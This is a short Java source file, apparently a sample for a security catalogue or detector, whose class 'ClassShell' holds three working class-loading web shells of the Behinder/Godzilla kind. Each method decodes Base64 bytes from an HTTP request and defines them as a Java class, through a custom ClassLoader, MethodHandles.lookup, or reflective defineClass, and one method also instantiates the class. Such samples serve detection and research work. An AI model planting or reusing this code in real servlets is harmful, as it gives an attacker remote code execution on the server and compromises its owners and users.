package shop;

import jakarta.servlet.http.HttpServletRequest;
import java.lang.invoke.MethodHandles;
import java.lang.reflect.Method;
import java.util.Base64;

/** Class-loading web shells (B.1.4.7, the Behinder / Godzilla pattern): request bytes defined as a class and run. */
public class ClassShell {
    static final class Loader extends ClassLoader {
        Loader(ClassLoader parent) {
            super(parent);
        }

        Class<?> define(byte[] bytes) {
            return super.defineClass(null, bytes, 0, bytes.length);
        }
    }

    public Object loader(HttpServletRequest request) throws Exception {
        byte[] bytes = Base64.getDecoder().decode(request.getReader().readLine());
        return new Loader(getClass().getClassLoader()).define(bytes).getDeclaredConstructor().newInstance();
    }

    public Class<?> lookup(HttpServletRequest request) throws Exception {
        return MethodHandles.lookup().defineClass(Base64.getDecoder().decode(request.getParameter("c")));
    }

    public Object reflective(HttpServletRequest request) throws Exception {
        byte[] bytes = Base64.getDecoder().decode(request.getParameter("c"));
        Method define = ClassLoader.class.getDeclaredMethod("defineClass", byte[].class, int.class, int.class);
        define.setAccessible(true);
        return define.invoke(getClass().getClassLoader(), bytes, 0, bytes.length);
    }
}
